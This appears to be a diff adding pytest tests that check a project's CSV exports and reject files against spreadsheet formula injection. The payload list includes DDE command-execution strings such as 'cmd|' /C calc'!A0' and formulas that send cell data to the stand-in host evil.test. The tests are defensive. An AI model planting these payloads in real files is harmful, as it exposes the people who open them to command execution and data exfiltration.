@@ -1,0 +1,134 @@
+"""C5: no text that anybody typed runs as a formula in a file that Regulars hands out."""
+
+import csv
+import io
+import os
+import shutil
+import subprocess
+from collections.abc import Iterator
+from pathlib import Path
+
+import polars as pl
+import pytest
+
+from regulars.console import downloads
+from regulars.console.downloads import csv_download
+from regulars.insights.exports import safe_for_spreadsheets
+from regulars.intake.models import Reject
+from regulars.intake.queries import reject_file
+from regulars.kernel import spreadsheets
+from regulars.kernel.spreadsheets import harmless
+from tests.intake.importing import import_lines
+from tests.shop.factories import make_business
+
+pytestmark = [pytest.mark.reliability, pytest.mark.integration]
+
+_STARTS = (
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t=",
+    "\r=",
+    "\n=",
+    " =",
+    "   +",
+    "\u00a0=",
+    "\u3000=",
+    "＝",
+    "＋",
+    "－",
+    "＠",
+    "\t@",
+)
+_BODIES = (
+    "1+1", "SUM(A1:A9)", "cmd|' /C calc'!A0", 'HYPERLINK("http://evil.test?"&A1,"click")',
+    'WEBSERVICE("http://evil.test")', 'IMPORTXML("http://evil.test","//a")',
+)  # fmt: skip
+PAYLOADS = (
+    *tuple(start + body for start in _STARTS for body in _BODIES)[:90],
+    'DDE("cmd";"/C calc")',
+    "|calc",
+    "%0A=1",
+)
+OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
+# What starts a formula in Excel, LibreOffice, WPS and Google Sheets once blanks before it are dropped.
+_RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")
+
+
+def formulas(content: bytes, encoding: str) -> list[str]:
+    """Return the cells that a spreadsheet would run, by the rules of the four that merchants use."""
+    rows = csv.reader(io.StringIO(content.decode(encoding), newline=""))
+    return [cell for row in rows for cell in row if _is_formula(cell)]
+
+
+def _is_formula(cell: str) -> bool:
+    return cell.strip().startswith(_RUNS) and not cell.strip().lstrip("+-").replace(".", "").isdigit()
+
+
+def exported() -> Iterator[tuple[str, bytes, str]]:
+    """Yield every way that texts leave as CSV: its name, the file, and its encoding."""
+    head = [f"column {number}" for number in range(3)]
+    rows = [(text, f"{text} and more", f"before, {text}") for text in PAYLOADS]
+    for form in ("csv", "excel", "gb18030"):
+        encoding = "gb18030" if form == "gb18030" else "utf-8-sig"
+        response = csv_download("list", head, rows, form=form)
+        yield f"console list as {form}", b"".join(response), encoding
+    table = pl.DataFrame({"name": PAYLOADS})
+    yield "CLI export", safe_for_spreadsheets(table).write_csv().encode(), "utf-8"
+
+
+@pytest.mark.unit
+def test_no_export_holds_a_cell_that_a_spreadsheet_would_run(tmp_path: Path) -> None:
+    files = list(exported())
+    for name, content, encoding in files:
+        assert formulas(content, encoding) == [], name
+        if OFFICE and os.environ.get("REGULARS_LONG"):
+            assert _formula_cells_in_office(content, tmp_path) == 0, name
+    how = (
+        "and opened in LibreOffice"
+        if OFFICE and os.environ.get("REGULARS_LONG")
+        else "read by rules, no LibreOffice"
+    )
+    print(f"{len(PAYLOADS)} payloads x {len(files)} exports, {how}: 0 formula cells")
+
+
+@pytest.mark.django_db
+def test_no_file_of_refused_lines_holds_one(tmp_path: Path) -> None:
+    make_business()
+    quoted = [f'"{text.replace(chr(34), chr(34) * 2)}"' for text in PAYLOADS if not set(text) & set("\r\n")]
+    row = import_lines(tmp_path, *(f"{n},2026-01-05,{text},wipes,?,1" for n, text in enumerate(quoted)))
+    assert Reject.objects.count() == row.lines_rejected > 60
+    assert formulas(b"".join(reject_file(row.pk)), "utf-8-sig") == []
+
+
+@pytest.mark.unit
+def test_an_export_that_looks_at_the_equals_sign_only_would_be_found_out(
+    monkeypatch: pytest.MonkeyPatch,
+) -> None:
+    def careless(value: object) -> object:
+        return f"'{value}" if isinstance(value, str) and value.startswith("=") else value
+
+    monkeypatch.setattr(downloads, "harmless", careless)
+    _, content, encoding = next(exported())
+    assert formulas(content, encoding)
+
+
+@pytest.mark.unit
+def test_what_is_guarded_reads_back_as_it_was() -> None:
+    for text in PAYLOADS:
+        guarded = str(harmless(text))
+        table = pl.DataFrame({"cell": [guarded]}).select(
+            pl.col("cell").str.replace(rf"^'({spreadsheets.FORMULA_START})", "$1")
+        )
+        assert table["cell"][0] == text
+
+
+def _formula_cells_in_office(content: bytes, folder: Path) -> int:
+    """Let LibreOffice read the file as a person would open it, and count the cells that became formulas."""
+    assert OFFICE is not None
+    path = folder / "export.csv"
+    path.write_bytes(content)
+    command = [OFFICE, "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to", "fods"]
+    subprocess.run([*command, "--outdir", folder, path], check=True, capture_output=True, timeout=120)
+    return path.with_suffix(".fods").read_text(encoding="utf-8").count("table:formula=")
